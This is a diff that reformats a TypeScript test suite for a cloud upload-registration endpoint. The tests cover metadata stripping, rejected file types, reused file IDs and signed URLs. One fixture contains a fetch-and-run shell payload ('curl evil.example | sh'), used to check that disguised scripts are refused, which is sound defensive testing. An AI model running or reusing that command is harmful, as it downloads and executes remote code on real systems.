@@ -40,7 +40,7 @@ describe('consumer.registerUpload — cloud mode', () => {
   })
   beforeEach(() => loopback.objects.clear())
 
-  it('when the app uploaded a photo with GPS, then it is registered as the caller\'s, stored without any metadata, and the original is deleted', async () => {
+  it("when the app uploaded a photo with GPS, then it is registered as the caller's, stored without any metadata, and the original is deleted", async () => {
     const original = await jpegWithGps()
     expect(await gpsOf(original)).not.toBeNull()
     const path = uploadPath()
@@ -63,7 +63,10 @@ describe('consumer.registerUpload — cloud mode', () => {
   it('when the upload is a script renamed .jpg, then UNSUPPORTED_FILE_TYPE, nothing is kept, and the upload is deleted too', async () => {
     const path = uploadPath()
     const fileId = await loopback.uploadAsApp(path, Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'))
-    expect(await register(fileId, 'photo', 'holiday.jpg')).toEqual({ ok: false, error: { code: 'UNSUPPORTED_FILE_TYPE', message: '不支持这种文件，请上传照片、视频、录音或PDF' } })
+    expect(await register(fileId, 'photo', 'holiday.jpg')).toEqual({
+      ok: false,
+      error: { code: 'UNSUPPORTED_FILE_TYPE', message: '不支持这种文件，请上传照片、视频、录音或PDF' },
+    })
     expect([...loopback.objects.keys()]).toEqual([])
   })
 
@@ -75,13 +78,19 @@ describe('consumer.registerUpload — cloud mode', () => {
   })
 
   it('when the fileId names nothing that was uploaded, then EVIDENCE_NOT_FOUND', async () => {
-    expect(await register(`${loopback.prefix}${uploadPath()}`)).toEqual({ ok: false, error: { code: 'EVIDENCE_NOT_FOUND', message: '有附件未上传成功，请重新上传' } })
+    expect(await register(`${loopback.prefix}${uploadPath()}`)).toEqual({
+      ok: false,
+      error: { code: 'EVIDENCE_NOT_FOUND', message: '有附件未上传成功，请重新上传' },
+    })
   })
 
   it('when the same fileId is registered twice, then the second time finds nothing (a fileId is good once)', async () => {
     const fileId = await loopback.uploadAsApp(uploadPath(), await jpegWithGps())
     expect((await register(fileId)).ok).toBe(true)
-    expect(await register(fileId, 'photo', 'again.jpg', { subject: 'o-mallory' })).toMatchObject({ ok: false, error: { code: 'EVIDENCE_NOT_FOUND' } })
+    expect(await register(fileId, 'photo', 'again.jpg', { subject: 'o-mallory' })).toMatchObject({
+      ok: false,
+      error: { code: 'EVIDENCE_NOT_FOUND' },
+    })
   })
 
   it('when the fileId points at stored evidence rather than an upload, then the contract refuses it and the evidence stays', async () => {
@@ -115,7 +124,10 @@ describe('consumer.registerUpload — cloud mode', () => {
     const detail = await callAs(deps, 'consumer', { action: 'getMyCase', caseId: receipt.data.caseId }, ALICE)
     if (!detail.ok) throw new Error(detail.error.code)
     const [file] = detail.data.evidence
-    expect(file).toMatchObject({ id: registered.data.id, url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/cos\/evidence\/[0-9a-f]{32}\?sign=/) })
+    expect(file).toMatchObject({
+      id: registered.data.id,
+      url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/cos\/evidence\/[0-9a-f]{32}\?sign=/),
+    })
     expect(loopback.adminCalls.map((c) => [c.action, c.body.file_list])).toEqual([
       ['storage.batchGetDownloadUrl', [{ fileid: expect.stringMatching(/\/evidence\/[0-9a-f]{32}$/), max_age: 600 }]],
     ])
